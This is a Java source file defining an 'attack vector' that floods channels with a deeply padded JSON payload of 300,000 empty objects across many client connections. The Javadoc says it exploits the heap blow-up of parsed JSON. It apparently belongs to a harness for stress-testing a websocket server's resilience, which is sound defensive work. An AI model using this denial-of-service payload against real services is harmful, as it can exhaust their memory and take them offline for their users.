package io.heliodor.interop.attack;

import io.heliodor.interop.attack.Client.Trait;
import java.nio.ByteBuffer;
import java.util.List;
import java.util.Set;

/**
 * Clients send JSON that becomes many times larger as objects in the heap than it is as text.
 *
 * @param connections that do so
 * @param channels of each of them, whose handlers may run at the same time
 */
record Trees(int connections, int channels) implements AttackVector {
    private static final int NODES = 300_000;

    @Override
    public void begin(Swarm swarm) {
        String tree = "{\"reason\":[" + "{},".repeat(NODES) + "0]}";
        for (int i = 0; i < connections; i++) {
            List<String> topics = swarm.rooms(i * channels, channels);
            ByteBuffer joins = Frames.together(topics.stream().map(Frames::join).toList());
            swarm.keep(i % 2 == 0 ? Set.of() : Set.of(Trait.DEAF), client -> {
                client.send(joins);
                client.sendFrom(() -> Frames.push("2", topics.get(swarm.random().nextInt(channels)), "fail", tree));
            });
        }
    }
}
